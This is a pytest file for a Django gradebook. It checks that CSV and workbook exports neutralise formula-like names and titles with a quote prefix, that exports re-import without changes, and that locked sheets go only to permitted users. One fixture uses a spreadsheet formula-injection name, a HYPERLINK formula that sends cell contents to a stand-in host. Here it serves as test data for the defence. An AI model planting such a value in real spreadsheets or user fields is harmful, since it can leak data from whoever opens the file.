"""A sheet leaves as a file that is safe to open, and comes back as what it was."""

import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from gradebook.models import Column, User
from gradebook.services.terms import lock_term
from tests import factories
from tests.gradebook.marks import count_events, save
from tests.people import World

pytestmark = pytest.mark.django_db

TITLES = ("Essay", "=1+1", "Name", "@ home")


@pytest.fixture
def columns(world: World) -> list[Column]:
    return [factories.column(world.sheet, title=title, max_points=2000) for title in TITLES]


@pytest.fixture
def odd(world: World, columns: list[Column], teacher: User) -> User:
    """A student whose names are formulas, with a mark of each kind; the second has none."""
    person = factories.student(
        world.school, username="+odd", first_name='=HYPERLINK("http://x.test?"&A1)', last_name="-Smith"
    )
    other = factories.student(world.school, username="plain", first_name="Ann", last_name="Zoe")
    for each in (person, other):
        factories.enrolment(each, world.school_class)
    for column, text in zip(columns, ("1234.5", "0", "absent", ""), strict=True):
        if text:
            save(column, person, text, by=teacher)
    return person


@pytest.fixture
def export(client: Client, world: World, teacher: User) -> Callable[[str, str], bytes]:
    """Return what the teacher is given, by kind of file and language."""
    client.force_login(teacher)
    urls = {kind: reverse(f"gradebook:export_{kind}", args=[world.sheet.pk]) for kind in ("text", "workbook")}
    return lambda kind, language: client.get(urls[kind], headers={"accept-language": language}).content


def test_texts_are_no_formulas_and_numbers_stay_numbers(
    odd: User, export: Callable[[str, str], bytes]
) -> None:
    """O22."""
    text = export("text", "en").decode("utf-8-sig")
    assert text.splitlines() == [
        "username,student,Essay,'=1+1,Name,'@ home",
        '\'+odd,"\'=HYPERLINK(""http://x.test?""&A1) -Smith",1234.5,0,absent,',
        "plain,Ann Zoe,,,,",
    ]
    assert export("text", "de").decode("utf-8-sig").splitlines()[1].endswith(";1234,5;0;absent;")


def test_workbook_holds_texts_that_stay_texts_and_numbers(
    odd: User, export: Callable[[str, str], bytes]
) -> None:
    """O22: also once somebody has edited such a cell, which is what the quote prefix is for."""
    sheet = openpyxl.load_workbook(io.BytesIO(export("workbook", "de"))).active
    assert sheet is not None

    def show(cell: Any) -> tuple[Any, str, bool]:
        return cell.value, cell.data_type, bool(cell.quotePrefix)

    assert [[show(cell) for cell in row] for row in sheet.iter_rows(max_row=2)] == [
        [
            ("username", "s", False),
            ("student", "s", False),
            ("Essay", "s", False),
            ("=1+1", "s", True),
            ("Name", "s", False),
            ("@ home", "s", True),
        ],
        [
            ("+odd", "s", True),
            ('=HYPERLINK("http://x.test?"&A1) -Smith', "s", True),
            (1234.5, "n", False),
            (0, "n", False),
            ("absent", "s", False),
            (None, "n", False),
        ],
    ]
    assert sheet.freeze_panes == "C2"


@pytest.mark.parametrize("kind", ["text", "workbook"])
@pytest.mark.parametrize("language", ["en", "de"])
def test_export_imported_unchanged_changes_nothing(
    language: str,
    kind: str,
    odd: User,
    client: Client,
    world: World,
    columns: list[Column],
    export: Callable[[str, str], bytes],
) -> None:
    """O23, in both decimals, past every odd name and title."""
    before = count_events(columns)
    page = client.post(
        reverse("gradebook:import_marks", args=[world.sheet.pk]),
        {"file": SimpleUploadedFile("marks", export(kind, language)), "is_clearing": "on"},
        headers={"accept-language": language},
    )
    assert (page.status_code, page.context["lines"], page.context["plan"].unchanged) == (200, [], 8)
    assert page.context["plan"].ignored == []
    assert count_events(columns) == before


@pytest.mark.parametrize("kind", ["text", "workbook"])
def test_sheet_is_given_to_those_who_may_read_it_also_when_it_is_locked(
    kind: str, odd: User, client: Client, world: World, teacher: User, other_teacher: User, student: User
) -> None:
    url = reverse(f"gradebook:export_{kind}", args=[world.sheet.pk])
    office = factories.admin(school=world.school)
    lock_term(period_id=world.period.pk, by=office)
    seen = {}
    for person in (teacher, office, other_teacher, student):
        client.force_login(person)
        seen[person.username] = client.get(url).status_code
    assert list(seen.values()) == [200, 200, 404, 404]
